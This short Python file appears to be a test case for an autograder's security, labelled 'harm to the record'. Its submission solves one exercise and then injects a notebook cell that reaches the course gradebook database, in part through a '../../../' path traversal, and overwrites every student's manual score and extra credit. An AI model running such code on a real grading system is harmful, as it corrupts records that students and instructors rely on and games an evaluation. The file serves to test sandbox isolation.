"""Opens the gradebook and writes manual scores and extra credit into every row of its own."""

CLASS = "harm to the record"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        f"""
        import os, sqlite3

        for path in ({str(hand_in.room.course / "gradebook.db")!r}, "../../../gradebook.db"):
            if os.path.exists(path):
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("UPDATE grade SET manual_score = 10, extra_credit = 50")
        """
    )
